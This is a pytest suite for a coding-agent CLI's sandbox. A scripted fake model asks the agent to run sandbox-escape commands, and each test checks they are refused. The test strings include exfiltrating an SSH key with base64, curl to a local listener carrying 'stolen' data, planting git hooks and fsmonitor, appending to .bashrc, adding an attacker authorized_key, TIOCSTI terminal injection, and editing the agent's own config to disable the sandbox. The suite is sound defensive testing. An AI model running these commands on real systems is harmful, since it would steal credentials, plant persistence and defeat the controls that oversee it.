"""Each way out of the sandbox that hostile commands found, tried through the real `zeph ask -y`.

A scripted model (the wire-level fake server) asks for the hostile commands; canaries live outside
the workspace — outside /tmp too, since commands have a private /tmp that would hide them rather
than refuse them — and each test checks the canary is untouched and the tool result says what was
refused. Every test runs as root (how these machines and CI run) and as an unprivileged user
(`setpriv` to nobody) when this machine lets nobody run zeph's interpreter.
"""

from __future__ import annotations

import os
import pty
import shutil
import socket
import stat
import subprocess
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.cli_helpers import ZEPH
from tests.test_cli_tools import sent_tool_results, text_reply, tool_reply
from zeph_cli.tools.sandbox.bubblewrap import probe_bubblewrap

NOBODY = 65534
BWRAP, BWRAP_PROBLEM = probe_bubblewrap()
pytestmark = pytest.mark.skipif(BWRAP is None, reason=f"the bubblewrap wall cannot run here: {BWRAP_PROBLEM}")


def _nobody_can_run_zeph() -> str | None:
    """None when nobody can start zeph's interpreter and read its code; otherwise why not."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        return "needs root and setpriv"
    probe = subprocess.run(
        ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--", ZEPH, "--version"],
        capture_output=True, text=True, cwd="/",
    )
    return None if probe.returncode == 0 else f"nobody cannot run {ZEPH}: {probe.stderr.strip()[-200:]}"


NOBODY_PROBLEM = _nobody_can_run_zeph()


@dataclass
class Site:
    """A user's machine in miniature: a git workspace, a home with secrets, a directory outside."""

    base: Path
    ws: Path
    home: Path
    outside: Path
    canary: Path
    uid: int

    def env(self, fake_server) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("ZEPH_") and k not in ("XDG_CONFIG_HOME", "XDG_DATA_HOME")}
        return {
            **env, "HOME": str(self.home), "XDG_CONFIG_HOME": str(self.home / ".config"),
            "XDG_DATA_HOME": str(self.home / ".local/share"), "ZEPH_HOME": str(self.home / ".zeph-home"),
            "ZEPH_MEMORY_CROSS_SESSION_ENABLED": "false", "ZEPH_LLM_PROVIDER": "compatible",
            "ZEPH_LLM_BASE_URL": fake_server.url + "/v1", "ZEPH_LLM_MODEL": "gpt-4o", "ZEPH_LLM_MAX_RETRIES": "0",
        }

    def write_config(self, text: str) -> Path:
        """zeph's user config in this home, owned by the user zeph runs as."""
        config = self.home / ".config" / "zeph" / "config.toml"
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text(text)
        if self.uid:
            for path in [self.home / ".config", config.parent, config]:
                os.lchown(path, self.uid, self.uid)
        return config

    def ask(self, fake_server, *commands: str, cwd: Path | None = None) -> list[str]:
        """Run `zeph ask -y` whose model asks for `commands` one after another; the tool results."""
        for n, command in enumerate(commands):
            fake_server.queue(tool_reply(f"call_{n}", "bash", {"command": command}))
        fake_server.queue(text_reply("done"))
        prefix = [] if self.uid == 0 else ["setpriv", f"--reuid={self.uid}", f"--regid={self.uid}", "--clear-groups", "--"]
        done = subprocess.run([*prefix, ZEPH, "ask", "-y", "go"], capture_output=True, text=True,
                              env=self.env(fake_server), cwd=cwd or self.ws, timeout=180)
        assert done.returncode == 0, done.stderr
        results = [_unwrapped(r) for r in sent_tool_results(fake_server)]
        assert len(results) == len(commands), results
        return results


def _unwrapped(result: str) -> str:
    """A tool result without the <tool_output …> lines around it."""
    lines = result.splitlines()
    if lines and lines[0].startswith("<tool_output") and lines[-1] == "</tool_output>":
        lines = lines[1:-1]
    return "\n".join(lines)


@pytest.fixture(params=["root", "nobody"])
def site(request):
    if request.param == "nobody" and NOBODY_PROBLEM:
        pytest.skip(NOBODY_PROBLEM)
    uid = 0 if request.param == "root" else NOBODY
    base = Path(tempfile.mkdtemp(prefix="zeph-wall-", dir="/var/tmp"))
    ws, home, outside = base / "ws", base / "home", base / "outside"
    for directory in (ws, home, outside, home / ".ssh"):
        directory.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / "README").write_text("project\n")
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material\n")
    canary = outside / "canary.txt"
    canary.write_text("still here\n")
    os.chmod(canary, 0o644)
    if uid:
        for path in [base, *base.rglob("*")]:
            os.lchown(path, uid, uid)
    yield Site(base, ws, home, outside, canary, uid)
    shutil.rmtree(base, ignore_errors=True)


def untouched(site: Site) -> bool:
    info = site.canary.stat()
    return (site.canary.read_text() == "still here\n" and stat.S_IMODE(info.st_mode) == 0o644
            and info.st_uid == site.uid and info.st_mtime > time.time() - 3600)


# ---- file metadata outside -------------------------------------------------------------------------


def test_metadata_outside_cannot_change(site, fake_server):
    c = site.canary
    results = site.ask(fake_server, f"chmod 777 {c}", f"touch -d 2001-01-01 {c}", f"chown 1:1 {c}",
                       f"chattr +i {c}", f"python3 -c \"import os; os.setxattr('{c}', 'user.x', b'1')\"")
    assert untouched(site)
    assert all("Read-only file system" in r or "Operation not permitted" in r for r in results), results
    assert "[sandbox: writing" in results[0] and "allow_write" in results[0]


# ---- other processes ---------------------------------------------------------------------------------


def test_processes_outside_cannot_be_seen_or_signalled(site, fake_server):
    prefix = [] if site.uid == 0 else ["setpriv", f"--reuid={site.uid}", f"--regid={site.uid}", "--clear-groups", "--"]
    victim = subprocess.Popen([*prefix, "sleep", "300"])
    try:
        results = site.ask(fake_server, f"kill -9 {victim.pid}; ps -e | grep -c sleep")
        time.sleep(0.2)
        assert victim.poll() is None, "a process outside was killed"
        assert "No such process" in results[0]
    finally:
        victim.kill()
        victim.wait()


def _live(marker: str) -> int:
    count = 0
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker in (entry / "cmdline").read_bytes().decode(errors="replace"):
                    count += 1
            except OSError:
                pass
    return count


def test_a_process_flood_is_limited_and_nothing_outlives_the_call(site, fake_server):
    marker = "61.25"  # a sleep length no other test uses
    (site.ws / "flood.py").write_text(
        "import subprocess\nfor n in range(5000):\n    try:\n        subprocess.Popen(['sleep', '" + marker + "'])\n"
        "    except OSError as e:\n        print(n, 'started, then:', e.strerror)\n        break\n"
    )
    (result,) = site.ask(fake_server, f"python3 flood.py; setsid nohup sleep {marker} >/dev/null 2>&1 & echo started")
    started = int(result.split()[0])
    assert 100 < started < 1100 and "Resource temporarily unavailable" in result, result
    deadline = time.time() + 10
    while _live(f"sleep\x00{marker}") and time.time() < deadline:
        time.sleep(0.1)
    assert _live(f"sleep\x00{marker}") == 0


# ---- devices and the terminal --------------------------------------------------------------------------


def test_no_device_nodes_and_no_typing_into_a_terminal_outside(site, fake_server):
    master, slave = pty.openpty()
    name = os.ttyname(slave)
    if site.uid:
        os.chown(name, site.uid, site.uid)
    inject = (f"python3 -c \"import fcntl, os, termios; fd = os.open('{name}', os.O_RDWR); "
              "[fcntl.ioctl(fd, termios.TIOCSTI, c) for c in (b't', b'\\n')]\"")
    try:
        results = site.ask(fake_server, "mknod blk b 7 0; mknod chr c 1 3; ls -l", inject)
        os.set_blocking(master, False)
        try:
            typed = os.read(master, 100)
        except BlockingIOError:
            typed = b""
    finally:
        os.close(master)
        os.close(slave)
    assert not (site.ws / "blk").exists() and not (site.ws / "chr").exists()
    assert "Operation not permitted" in results[0]
    assert typed == b"" and "No such file or directory" in results[1], (typed, results[1])


# ---- unix sockets and the network outside ---------------------------------------------------------------


class Listener:
    """A server outside the sandbox that records whatever reaches it."""

    def __init__(self, family: int, address) -> None:
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind(address)
        self.sock.listen(8)
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(200) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.sock.close()


def test_unix_sockets_and_loopback_servers_outside_are_out_of_reach(site, fake_server):
    path = site.outside / "server.sock"
    unix = Listener(socket.AF_UNIX, str(path))
    if site.uid:
        os.chown(path, site.uid, site.uid)
    tcp = Listener(socket.AF_INET, ("127.0.0.1", 0))
    port = tcp.sock.getsockname()[1]
    try:
        results = site.ask(
            fake_server,
            f"python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); s.send(b'typed')\"",
            f"curl -sS -m 5 'http://127.0.0.1:{port}/?k=stolen'",
        )
        time.sleep(0.3)
    finally:
        unix.close()
        tcp.close()
    assert unix.received == [] and tcp.received == [], (unix.received, tcp.received)
    assert "Connection refused" in results[0]
    assert "allow_network = true" in results[1] and "allowed_hosts" in results[1]


def test_a_socket_in_a_folder_zeph_may_not_enter_does_not_stop_commands(site, fake_server):
    # another user's private runtime folder (0700) with a server's socket in it: bubblewrap cannot cover a path
    # it may not enter, and a command inside could not reach it anyway, so zeph leaves it alone
    other = NOBODY if site.uid == 0 else 0
    private = site.base / "someone-else"
    private.mkdir(mode=0o700)
    unix = Listener(socket.AF_UNIX, str(private / "their.sock"))
    os.chown(private, other, other)
    try:
        results = site.ask(fake_server, "echo still runs")
    finally:
        unix.close()
    assert results == ["still runs"]


# ---- deferred execution and zeph's own files -------------------------------------------------------------


def test_git_hooks_and_config_and_zeph_prompts_are_read_only(site, fake_server):
    prompts = site.ws / ".zeph" / "prompts"
    prompts.mkdir(parents=True)
    (prompts / "core.md").write_text("the rules\n")
    config_before = (site.ws / ".git" / "config").read_text()
    if site.uid:
        for path in [site.ws / ".zeph", prompts, prompts / "core.md"]:
            os.lchown(path, site.uid, site.uid)
    results = site.ask(
        fake_server,
        f"git config core.fsmonitor 'touch {site.outside}/pwned'",
        f"printf '#!/bin/sh\\ntouch {site.outside}/pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        ": > .zeph/prompts/core.md",
        "git add README && git -c user.email=a@b -c user.name=a commit -qm first && git log --oneline | wc -l",
    )
    assert (site.ws / ".git" / "config").read_text() == config_before
    assert not (site.ws / ".git" / "hooks" / "pre-commit").exists()
    assert (prompts / "core.md").read_text() == "the rules\n"
    assert "is read-only for commands" in results[0] and "is read-only for commands" in results[1]
    assert results[3] == "1"  # a commit in the workspace still works
    assert not (site.outside / "pwned").exists()


def test_zeph_started_in_home_cannot_change_its_own_config(site, fake_server):
    config = site.write_config("[tools.sandbox]\nenabled = true\n")
    (result,) = site.ask(fake_server, "echo 'enabled = false' >> ~/.config/zeph/config.toml; echo tried", cwd=site.home)
    assert config.read_text() == "[tools.sandbox]\nenabled = true\n"
    assert "hidden from commands" in result


# ---- secrets in files --------------------------------------------------------------------------------------


def test_secret_stores_are_hidden_unless_allowed(site, fake_server):
    results = site.ask(fake_server, "base64 ~/.ssh/id_rsa; ls -a ~/.ssh")
    assert "secret-key-material" not in results[0] and "c2VjcmV0" not in results[0]
    assert "hidden from commands" in results[0] and "allow_read" in results[0]
    site.write_config('[tools.sandbox]\nallow_read = ["~/.ssh"]\n')
    (allowed,) = site.ask(fake_server, "cat ~/.ssh/id_rsa | tail -1")
    assert allowed == "secret-key-material"


# ---- where the wall cannot run ------------------------------------------------------------------------------


def test_without_user_namespaces_zeph_says_once_what_is_missing_and_strict_refuses(site, fake_server):
    """A machine without user namespaces, made for real: zeph runs in a user namespace of its own whose
    limit on further ones is 0, so bwrap cannot build the wall; Landlock still confines writes."""
    if shutil.which("unshare") is None:
        pytest.skip("needs util-linux unshare")
    if site.uid:
        pytest.skip("as nobody, root inside `unshare -r` owns nothing of the interpreter's directories here")
    command = f"echo x > {site.canary}; echo one; echo two"

    def script() -> None:
        for n in range(2):
            fake_server.queue(tool_reply(f"call_{n}", "bash", {"command": command}))
        fake_server.queue(text_reply("done"))

    script()
    prefix: list[str] = []
    no_userns = ["unshare", "-Ur", "sh", "-c", 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"', "sh"]
    env = site.env(fake_server)
    done = subprocess.run([*prefix, *no_userns, ZEPH, "ask", "-y", "go"], capture_output=True, text=True, env=env,
                          cwd=site.ws, timeout=180)
    assert done.returncode == 0, done.stderr
    missing = [line for line in done.stderr.splitlines() if "missing: the bubblewrap wall" in line]
    assert len(missing) == 1, done.stderr  # once, not per command
    assert "file metadata" in missing[0] and "secret stores" in missing[0] and "commands run without it" in missing[0]
    assert site.canary.read_text() == "still here\n"  # Landlock alone still refuses the write
    script()
    strict = subprocess.run([*prefix, *no_userns, ZEPH, "ask", "-y", "go"], capture_output=True, text=True,
                            env={**env, "ZEPH_TOOLS_SANDBOX_STRICT": "true"}, cwd=site.ws, timeout=180)
    assert strict.returncode == 0, strict.stderr
    refused = [_unwrapped(r) for r in sent_tool_results(fake_server)]
    assert all("strict = true" in r and "missing: the bubblewrap wall" in r for r in refused), refused


def test_allowed_hosts_open_exactly_the_listed_hosts(site, fake_server):
    import http.server

    class Hello(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (the stdlib's name)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"hello from outside\n")

        def log_message(self, *args):
            pass

    allowed = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hello)
    other = Listener(socket.AF_INET, ("127.0.0.1", 0))
    threading.Thread(target=allowed.serve_forever, daemon=True).start()
    port, other_port = allowed.server_address[1], other.sock.getsockname()[1]
    site.write_config(f'[tools.sandbox]\nallowed_hosts = ["127.0.0.1:{port}"]\n')
    try:
        # The machine's loopback stands for a remote host: --noproxy '' sends it through the proxy, as a
        # remote name would be (NO_PROXY keeps the sandbox's own loopback direct).
        results = site.ask(fake_server, f"curl -sS -m 10 --noproxy '' http://127.0.0.1:{port}/",
                           f"curl -sS -m 10 --noproxy '' http://127.0.0.1:{other_port}/")
    finally:
        allowed.shutdown()
        other.close()
    assert results[0] == "hello from outside"
    assert other.received == []
    assert f"127.0.0.1:{other_port}" in results[1] and "allowed_hosts" in results[1], results[1]


def test_the_file_tools_refuse_secret_stores_inside_the_workspace(site, fake_server):
    """zeph started in the home: ~/.ssh lies inside the workspace, and read_file still may not read it."""
    fake_server.queue(tool_reply("call_r", "read_file", {"path": ".ssh/id_rsa"}))
    fake_server.queue(tool_reply("call_w", "write_file", {"path": ".ssh/authorized_keys", "content": "ssh-ed25519 AAAA evil\n"}))
    fake_server.queue(text_reply("done"))
    prefix = [] if site.uid == 0 else ["setpriv", f"--reuid={site.uid}", f"--regid={site.uid}", "--clear-groups", "--"]
    done = subprocess.run([*prefix, ZEPH, "ask", "-y", "go"], capture_output=True, text=True,
                          env=site.env(fake_server), cwd=site.home, timeout=180)
    assert done.returncode == 0, done.stderr
    read, write = (_unwrapped(r) for r in sent_tool_results(fake_server))
    assert "secret-key-material" not in read
    assert "hidden from tools" in read and "allow_read" in read, read
    assert "hidden from tools" in write and not (site.home / ".ssh" / "authorized_keys").exists()


def test_kernel_settings_stay_read_only(site, fake_server):
    setting = Path("/proc/sys/kernel/printk_ratelimit")
    before = setting.read_text()
    try:
        (result,) = site.ask(fake_server, f"echo 7 > {setting}; python3 -c \"open('/proc/sys/kernel/core_pattern', 'a')\"")
        after = setting.read_text()
    finally:
        if setting.read_text() != before:  # the escape happened: put the host back
            setting.write_text(before)
    assert after == before
    assert result.count("Read-only file system") + result.count("Permission denied") == 2, result  # nobody: not root's


def test_a_replaced_or_redirected_git_directory_runs_nothing_later(site, fake_server):
    evil = site.ws / "evil"
    results = site.ask(
        fake_server,
        "mv .git .git-old",
        f"mkdir -p evil/hooks && printf '#!/bin/sh\\ntouch {site.outside}/pwned\\n' > evil/hooks/post-checkout && "
        "echo ../evil > .git/commondir; echo done",
    )
    assert (site.ws / ".git" / "config").exists() and not (site.ws / ".git-old").exists()
    assert "Device or resource busy" in results[0]
    assert not (site.ws / ".git" / "commondir").exists() and (evil / "hooks" / "post-checkout").exists()
    assert "commondir" in results[1] and "it was removed" in results[1], results[1]
    subprocess.run(["git", "status"], cwd=site.ws, capture_output=True)  # the user's next git command
    assert not (site.outside / "pwned").exists()


def test_a_home_workspace_keeps_its_startup_files(site, fake_server):
    bashrc = site.home / ".bashrc"
    bashrc.write_text("# mine\n")
    (site.home / ".config").mkdir(exist_ok=True)
    if site.uid:
        for path in (bashrc, site.home / ".config"):
            os.lchown(path, site.uid, site.uid)
    results = site.ask(fake_server, f"echo 'touch {site.outside}/pwned' >> ~/.bashrc", "mv ~/.config ~/.config-old",
                       cwd=site.home)
    assert bashrc.read_text() == "# mine\n" and (site.home / ".config").is_dir()
    assert "Read-only file system" in results[0] and "is read-only for commands" in results[0]
    assert "Device or resource busy" in results[1] or "Read-only file system" in results[1], results[1]


def test_the_file_tools_may_not_write_git_hooks_or_config(site, fake_server):
    fake_server.queue(tool_reply("call_h", "write_file", {"path": ".git/hooks/post-checkout", "content": "#!/bin/sh\nid\n"}))
    fake_server.queue(tool_reply("call_c", "edit_file", {"path": ".git/config", "old_string": "[core]",
                                                         "new_string": "[core]\n\tfsmonitor = id"}))
    fake_server.queue(text_reply("done"))
    config = (site.ws / ".git" / "config").read_text()
    prefix = [] if site.uid == 0 else ["setpriv", f"--reuid={site.uid}", f"--regid={site.uid}", "--clear-groups", "--"]
    done = subprocess.run([*prefix, ZEPH, "ask", "-y", "go"], capture_output=True, text=True,
                          env=site.env(fake_server), cwd=site.ws, timeout=180)
    assert done.returncode == 0, done.stderr
    hook, edit = (_unwrapped(r) for r in sent_tool_results(fake_server))
    assert "may not change" in hook and "may not change" in edit, (hook, edit)
    assert not (site.ws / ".git" / "hooks" / "post-checkout").exists() and (site.ws / ".git" / "config").read_text() == config
